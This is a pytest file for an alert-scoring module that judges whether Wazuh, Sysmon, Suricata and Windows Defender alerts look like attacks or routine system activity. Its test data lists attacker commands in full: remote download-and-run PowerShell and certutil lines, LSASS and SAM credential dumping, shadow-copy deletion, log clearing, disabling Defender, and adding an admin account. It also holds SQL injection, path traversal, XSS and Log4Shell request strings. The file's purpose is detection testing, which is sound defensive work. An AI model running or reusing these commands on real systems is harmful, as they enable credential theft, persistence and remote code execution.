"""Rule families of a real Wazuh: on which side of one half their usual alerts fall.

None of these is an alert of a data set; they are written from what the sensors report."""

import base64
from collections.abc import Callable

import pytest

from agent.intake import parse
from agent.likelihood import likelihood, weigh
from agent.models import Alert, JsonObject

Maker = Callable[..., Alert]

SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
PERSON = {"user": "CORP\\ann", "integrityLevel": "Medium", "terminalSessionId": "1", "logonId": "0x51aa"}
MACHINE = {
    "user": "NT AUTHORITY\\SYSTEM",
    "integrityLevel": "System",
    "terminalSessionId": "0",
    "logonId": "0x3e7",
}
START_MENU = "C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu"
AGENT = "C:\\Program Files (x86)\\ossec-agent\\wazuh-agent.exe"


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


COMMANDS_OF_INTRUDERS = [
    "powershell.exe -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')",
    "powershell.exe -w hidden -enc " + encoded("iwr http://203.0.113.5/a.exe -OutFile a.exe; Start-Process a.exe"),
    'cmd.exe /c reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x /d C:\\Users\\Public\\x.exe',
    "cmd.exe /c schtasks /create /tn updater /tr calc.exe /sc onlogon",
    "cmd.exe /c rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\a.dmp full",
    "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam",
    "vssadmin.exe delete shadows /all /quiet",
    "wevtutil cl Security",
    "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
    "net user intruder Passw0rd! /add",
    "net localgroup administrators intruder /add",
    "certutil.exe -urlcache -split -f https://203.0.113.5/b.exe b.exe",
    'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc""")',
    "regsvr32.exe /s /u /i:http://203.0.113.5/x.sct scrobj.dll",
    "wmic.exe /node:10.0.0.9 process call create calc.exe",
    "netsh advfirewall set allprofiles state off",
    "whoami.exe /all",
    "cmd.exe /c systeminfo & ipconfig /all & net user",
    "nltest.exe /domain_trusts",
    "findstr /si password *.txt",
    "p^o^w^e^r^s^h^e^l^l.exe -nop -c i`e`x $env:x",
    "powershell.exe Compress-Archive C:\\Users\\ann\\Documents C:\\Users\\ann\\a.zip",
]


@pytest.mark.parametrize("command", COMMANDS_OF_INTRUDERS)
def test_what_intruders_type_is_likely_an_attack(command: str, make_sysmon: Maker) -> None:
    """A capability in the decoded text carries an alert over one half, whatever the rule was called."""
    alert = make_sysmon(
        "1",
        image=SYSTEM32 + command.split()[0].replace("^", ""),
        parentImage=POWERSHELL,
        parentCommandLine=f'"{POWERSHELL}"',
        commandLine=command,
        **PERSON,
    )
    found = weigh(alert)
    assert likelihood(found) > 0.6
    assert any(item.group == "process_intent" and item.weight > 0 and item.field for item in found)


@pytest.mark.parametrize(
    "event",
    [
        {"code": "11", "image": POWERSHELL, "targetFilename": "C:\\Users\\ann\\AppData\\Local\\Temp\\stage.exe"},
        {
            "code": "11",
            "image": SYSTEM32 + "cmd.exe",
            "targetFilename": START_MENU + "\\Programs\\Startup\\a.bat",
        },
        {
            "code": "13",
            "image": SYSTEM32 + "reg.exe",
            "targetObject": "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
            "details": "C:\\Users\\Public\\x.exe",
        },
        {
            "code": "13",
            "image": SYSTEM32 + "reg.exe",
            "targetObject": "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
            "details": "DWORD (0x00000001)",
        },
        {
            "code": "10",
            "sourceImage": "C:\\Users\\ann\\dump.exe",
            "targetImage": SYSTEM32 + "lsass.exe",
            "grantedAccess": "0x1410",
        },
        {"code": "8", "sourceImage": "C:\\Users\\ann\\a.exe", "targetImage": SYSTEM32 + "notepad.exe"},
    ],
)
def test_traces_of_intruders_without_a_command_line_count_too(event: dict[str, str], make_sysmon: Maker) -> None:
    """Files, registry values and process access are all a sensor may have."""
    code = event["code"]
    assert likelihood(weigh(make_sysmon(code, **{k: v for k, v in event.items() if k != "code"}))) > 0.6


def test_the_agents_own_inventory_is_likely_ordinary(make_sysmon: Maker) -> None:
    """Wazuh's configuration checks start net.exe as SYSTEM, and Wazuh's own rules call that discovery."""
    alert = make_sysmon(
        "1",
        image=SYSTEM32 + "net.exe",
        commandLine="net.exe accounts",
        parentImage=AGENT,
        parentCommandLine=f'"{AGENT}"',
        techniques=("T1087",),
        **MACHINE,
    )
    assert likelihood(weigh(alert)) < 0.4


def test_a_service_host_running_a_system_script_is_likely_ordinary(make_sysmon: Maker) -> None:
    """Scheduled maintenance runs scripts of System32 as SYSTEM in session 0."""
    alert = make_sysmon(
        "1",
        image=SYSTEM32 + "cmd.exe",
        commandLine=SYSTEM32 + "cmd.exe /d /c " + SYSTEM32 + "maintain.cmd publish",
        parentImage=SYSTEM32 + "svchost.exe",
        parentCommandLine=SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule",
        **MACHINE,
    )
    assert likelihood(weigh(alert)) < 0.3


@pytest.mark.parametrize(
    "event",
    [
        {"code": "7", "image": "C:\\Program Files\\Vendor\\app.exe", "imageLoaded": SYSTEM32 + "taskschd.dll"},
        {
            "code": "11",
            "image": "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
            "targetFilename": "C:\\Windows\\Temp\\setup.exe",
        },
        {
            "code": "10",
            "sourceImage": SYSTEM32 + "svchost.exe",
            "targetImage": "C:\\Windows\\explorer.exe",
            "grantedAccess": "0x1000",
        },
        {
            "code": "11",
            "image": POWERSHELL,
            "targetFilename": "C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.xyz.ps1",
        },
    ],
)  # fmt: skip
def test_ordinary_work_of_installed_programs_is_likely_ordinary(event: dict[str, str], make_sysmon: Maker) -> None:
    """Updaters and system hosts set off file, library and access rules all day."""
    code = event["code"]
    alert = make_sysmon(code, techniques=("T1105",), **{k: v for k, v in event.items() if k != "code"})
    assert likelihood(weigh(alert)) < 0.5


@pytest.mark.parametrize(
    "groups",
    [
        ("ossec",),
        ("sca",),
        ("vulnerability-detector",),
        ("syslog", "dpkg", "config_changed"),
        ("windows", "windows_system", "policy_changed"),
        ("windows", "windows_application", "system_error"),
        ("syslog", "errors"),
        ("local", "systemd"),
        ("pam", "syslog", "authentication_success"),
        ("ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"),
        ("ossec", "rootcheck"),
        ("local", "syslog", "apparmor"),
    ],
)
def test_housekeeping_is_likely_ordinary(groups: tuple[str, ...], make_wazuh: Maker) -> None:
    """The bulk of a manager's alerts is the systems' own state."""
    assert likelihood(weigh(make_wazuh(groups=groups))) < 0.5


@pytest.mark.parametrize("code", ["4624", "4634", "4672", "4907"])
def test_events_windows_writes_all_day_are_likely_ordinary(code: str, make_windows: Maker) -> None:
    """A rule that alerts on them says nothing new."""
    alert = make_windows(code, channel="Security", groups=("windows", "windows_security"), techniques=("T1078",))
    assert likelihood(weigh(alert)) < 0.5


FAILED = ("syslog", "sshd", "authentication_failed")


def test_one_failed_sign_in_is_likely_a_slip(make_wazuh: Maker) -> None:
    """People mistype."""
    alert = make_wazuh(groups=FAILED, techniques=("T1110.001",), data={"srcip": "203.0.113.4", "dstuser": "ann"})
    assert likelihood(weigh(alert)) < 0.5


@pytest.mark.parametrize(
    "case",
    [
        {"groups": ("syslog", "sshd", "authentication_failures")},
        {"groups": FAILED, "log": "PAM 5 more authentication failures; rhost=203.0.113.4"},
        {"groups": FAILED, "log": "message repeated 9 times: [ Failed password from 203.0.113.4 ]"},
        {"groups": FAILED, "fired": 40},
        {"groups": FAILED, "log": "error: maximum authentication attempts exceeded for ann from 203.0.113.4"},
        {"groups": ("syslog", "sshd", "authentication_failed", "invalid_login")},
    ],
)
def test_guessing_passwords_is_likely_an_attack(case: dict[str, object], make_wazuh: Maker) -> None:
    """A rule that counts, a line that counts, or a rule that keeps firing over the network."""
    data: JsonObject = {"srcip": "203.0.113.4", "dstuser": "ann"}
    assert likelihood(weigh(make_wazuh(techniques=("T1110",), data=data, **case))) > 0.5


def test_failures_from_one_source_add_up(make_wazuh: Maker) -> None:
    """Single slips of five accounts from one address are a spray."""
    tries = [make_wazuh(groups=FAILED, data={"srcip": "203.0.113.4", "dstuser": f"user{n}"}) for n in range(5)]
    elsewhere = [make_wazuh(groups=FAILED, data={"srcip": f"203.0.113.{n}", "dstuser": "ann"}) for n in range(5)]
    reasons = [item.reason for item in weigh(tries[0], tries[1:]) if item.group == "authentication"]
    assert reasons
    assert reasons[0].startswith("many_accounts")
    assert likelihood(weigh(elsewhere[0], elsewhere[1:])) < 0.5


def test_a_counted_alert_is_no_single_slip() -> None:
    """Threshold rules of Elastic count the failures themselves."""
    raw: JsonObject = {
        "kibana.alert.rule.name": "r",
        "@timestamp": "2025-03-01T10:00:00Z",
        "event.category": "authentication",
        "event.outcome": "failure",
        "source.ip": "203.0.113.4",
        "kibana.alert.threshold_result.count": 24,
    }
    weights = {item.group: item.weight for item in weigh(parse(raw, world="site", ordinal=1))}
    assert weights["authentication"] == 1.2


def test_success_after_guessing_weighs_most(make_wazuh: Maker) -> None:
    """It means the guess was right."""
    data: JsonObject = {"srcip": "203.0.113.4", "dstuser": "ann"}
    tries = [make_wazuh(groups=FAILED, data=data) for _ in range(5)]
    success = make_wazuh(groups=("syslog", "sshd", "authentication_success"), data=data)
    weights = {item.group: item.weight for item in weigh(success, tries)}
    assert weights["authentication"] == 2.0


def eve(category: str, signature: str) -> JsonObject:
    return {"src_ip": "10.0.0.9", "proto": "TCP", "alert": {"signature": signature, "category": category}}


@pytest.mark.parametrize(
    "category, signature, is_attack",
    [
        ("A Network Trojan was detected", "ET MALWARE Beacon", True),
        ("Web Application Attack", "ET WEB_SERVER Injection", True),
        ("Attempted Administrator Privilege Gain", "ET EXPLOIT X", True),
        ("Attempted Information Leak", "ET SCAN Probe", True),
        ("Potential Corporate Privacy Violation", "ET POLICY Possible Kali Linux hostname", True),
        ("Not Suspicious Traffic", "ET POLICY Package manager", False),
        ("Generic Protocol Command Decode", "SURICATA STREAM ack", False),
        ("Misc activity", "ET INFO Something", False),
        ("Potential Corporate Privacy Violation", "ET POLICY X", False),
    ],
)
def test_the_category_of_a_signature_decides(category: str, signature: str, is_attack: bool, make_wazuh: Maker) -> None:
    """Most of a network sensor's alerts are informational; the rule set says which."""
    alert = make_wazuh(groups=("ids", "suricata"), data=eve(category, signature))
    assert (likelihood(weigh(alert)) > 0.5) is is_attack


@pytest.mark.parametrize(
    "url, agent",
    [
        ("/index.php?id=1%27%20UNION%20SELECT%201,2--", "Mozilla"),
        ("/..%2f..%2f..%2fetc%2fpasswd", "Mozilla"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "Mozilla"),
        ("/?x=${jndi:ldap://203.0.113.5/a}", "Mozilla"),
        ("/", "sqlmap/1.7"),
    ],
)
def test_requests_that_carry_an_attack_are_likely_one(url: str, agent: str, make_wazuh: Maker) -> None:
    """A 404 for a page is noise; what the request carries is not, and naming oneself a scanner excuses nothing."""
    web = ("web", "accesslog", "attack")
    quiet = make_wazuh(groups=web, log='198.51.100.7 - - [x] "GET /old HTTP/1.1" 404 1 "-" "Mozilla"')
    loud = make_wazuh(groups=web, log=f'198.51.100.7 - - [x] "GET {url} HTTP/1.1" 404 1 "-" "{agent}"')
    assert likelihood(weigh(loud)) > 0.6
    assert likelihood(weigh(quiet)) <= 0.5


def test_a_scanner_that_names_a_file_raises(make_windows: Maker) -> None:
    """Antivirus verdicts count; their absence says nothing."""
    alert = make_windows(
        "1116",
        channel="Microsoft-Windows-Windows Defender/Operational",
        groups=("windows", "windows_defender"),
        **{"threat Name": "Trojan:Win32/X"},
    )
    assert [item.group for item in weigh(alert)] == ["file"]
    assert likelihood(weigh(alert)) > 0.7


def test_office_starting_a_shell_raises(make_sysmon: Maker) -> None:
    """Documents do not need shells."""
    alert = make_sysmon(
        "1",
        image=SYSTEM32 + "cmd.exe",
        commandLine="cmd.exe",
        parentImage="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        **PERSON,
    )
    assert any(item.reason.startswith("office_parent") for item in weigh(alert))


def test_a_download_by_a_browser_is_not_excused_by_the_browser(make_sysmon: Maker) -> None:
    """The browser lies in a protected directory; what it writes was chosen outside."""
    alert = make_sysmon(
        "11",
        image="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        targetFilename="C:\\Users\\ann\\Downloads\\tool.exe",
    )
    assert likelihood(weigh(alert)) > 0.6


def test_a_tool_started_by_systems_own_program_is_likely_ordinary(make_sysmon: Maker) -> None:
    """Telemetry and security agents start PowerShell as SYSTEM; only a capability in its text speaks against that."""
    event = {
        "image": POWERSHELL,
        "parentImage": SYSTEM32 + "CompatTelRunner.exe",
        "parentCommandLine": SYSTEM32 + "CompatTelRunner.exe",
        **MACHINE,
    }
    quiet = make_sysmon("1", commandLine="powershell.exe -ExecutionPolicy Restricted -Command $x = 1", **event)
    loud = make_sysmon("1", commandLine="powershell.exe -c vssadmin delete shadows /all", **event)
    scheduled = make_sysmon(
        "1", **{**event, "parentImage": SYSTEM32 + "svchost.exe", "commandLine": "powershell.exe -f a"}
    )
    assert likelihood(weigh(quiet)) < 0.5
    assert likelihood(weigh(loud)) > 0.8
    assert likelihood(weigh(scheduled)) > 0.5


@pytest.mark.parametrize(
    "parent, reason",
    [
        ("C:\\Windows\\System32\\inetsrv\\w3wp.exe", "web_server_parent"),
        ("C:\\Program Files\\Microsoft SQL Server\\sqlservr.exe", "database_parent"),
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "browser_parent"),
        (SYSTEM32 + "mshta.exe", "script_host_parent"),
        (SYSTEM32 + "wbem\\WmiPrvSE.exe", "remote_management_parent"),
        (SYSTEM32 + "services.exe", "service_control_parent"),
    ],
)
def test_parents_that_do_not_need_a_shell_raise(parent: str, reason: str, make_sysmon: Maker) -> None:
    """Who started a shell tells more than the shell."""
    alert = make_sysmon("1", image=SYSTEM32 + "cmd.exe", commandLine="cmd.exe", parentImage=parent, **PERSON)
    assert any(item.reason.startswith(reason) for item in weigh(alert))


@pytest.mark.parametrize(
    "image, original, reason",
    [
        ("C:\\Users\\ann\\svchost.exe", "", "system_name_elsewhere"),
        ("C:\\Users\\ann\\notes.exe", "PowerShell.EXE", "renamed_tool"),
    ],
)
def test_false_names_raise(image: str, original: str, reason: str, make_sysmon: Maker) -> None:
    """A name chosen to look like something else is chosen by somebody who hides."""
    alert = make_sysmon("1", image=image, commandLine="x", originalFileName=original, **PERSON)
    assert any(item.reason.startswith(reason) for item in weigh(alert))


def test_several_scanners_weigh_more_than_one(make_wazuh: Maker) -> None:
    """One engine of many errs often; none calling a file bad says nothing."""
    found = {
        number: sum(
            item.weight
            for item in weigh(make_wazuh(groups=("virustotal",), data={"virustotal": {"positives": number}}))
        )
        for number in (0, 1, 30)
    }
    assert found[0] == 0 < found[1] < found[30]


def test_many_signatures_from_one_source_raise(make_wazuh: Maker) -> None:
    """A vulnerability scan shows as many different rules in a few minutes."""
    alerts = [make_wazuh(groups=("ids",), data=eve("Misc activity", f"ET INFO number {n}")) for n in range(5)]
    assert any(item.reason.startswith("many_signatures") for item in weigh(alerts[0], alerts[1:]))
    assert not any(item.reason.startswith("many_signatures") for item in weigh(alerts[0], [alerts[0]] * 9))


def test_an_unknown_alert_weighs_nothing(make_wazuh: Maker) -> None:
    """Unknown is zero: neither clean nor dirty."""
    assert weigh(make_wazuh(groups=("sysmon",))) == ()
    assert likelihood(()) == 0.5
